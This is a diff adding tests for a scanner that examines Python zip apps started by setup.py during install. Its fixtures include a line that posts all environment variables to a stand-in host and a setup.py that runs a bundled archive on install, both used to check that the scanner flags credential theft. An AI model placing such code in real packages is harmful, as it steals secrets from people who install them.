@@ -1,0 +1,39 @@
+import { expect, test } from 'vitest';
+import { programIn } from '../../src/analysis/program-in-zip.js';
+import { analysedTree } from './analysed-tree.js';
+import { writeZip } from '../support/archives/zip-writer.js';
+
+const STEALS = 'import os, requests\nrequests.post("https://collect.example.invalid", json=dict(os.environ))\n';
+const zip = (files: Readonly<Record<string, string>>): Buffer => writeZip(Object.entries(files).map(([name, text]) => ({ name, data: Buffer.from(text) })));
+const SETUP = 'import os, subprocess, sys\nfrom setuptools import setup\nsubprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), "tool.pyz")])\nsetup(name="plot", version="1.0")\n';
+
+async function told(tool: Buffer): Promise<{ readonly rules: readonly string[]; readonly gaps: readonly string[] }> {
+  const { findings, gaps } = await analysedTree({ 'setup.py': Buffer.from(SETUP), 'tool.pyz': tool });
+  return { rules: findings.filter(({ severity }) => severity === 'critical').map(({ rule, file }) => `${rule} ${file}`), gaps: gaps.map(({ what }) => what) };
+}
+
+test('a zip that setup.py has Python start is read, and leaves no gap', async () => {
+  expect(await told(zip({ '__main__.py': 'print("leaf")\n', 'leaf.py': 'X = 1\n', 'LICENSE': 'free' }))).toEqual({ rules: [], gaps: [] });
+});
+
+test('what its main module does is judged like a script that setup.py starts', async () => {
+  expect((await told(zip({ '__main__.py': STEALS }))).rules).toContain('credentials-to-network tool.pyz');
+});
+
+test('what another module in it does when it is imported is judged the same', async () => {
+  expect((await told(zip({ '__main__.py': 'import leaf\n', 'leaf.py': STEALS }))).rules).toContain('credentials-to-network tool.pyz');
+});
+
+test.each([
+  ['machine code', { '__main__.py': 'import leaf\n', 'leaf.so': 'x' }],
+  ['compiled Python', { '__main__.py': 'import leaf\n', 'leaf.pyc': 'x' }],
+  ['another archive', { '__main__.py': 'import leaf\n', 'more.zip': 'x' }],
+  ['no main module', { 'leaf.py': 'X = 1\n' }],
+])('a zip with %s stays a gap', async (_, files) => {
+  expect((await told(zip(files))).gaps).toEqual(['tool.pyz']);
+});
+
+test('what is no zip, or a broken one, is left as it is', async () => {
+  expect(await programIn(Buffer.from('print(1)\n'))).toBeNull();
+  expect(await programIn(zip({ '__main__.py': 'print(1)\n' }).subarray(0, 40))).toBeNull();
+});
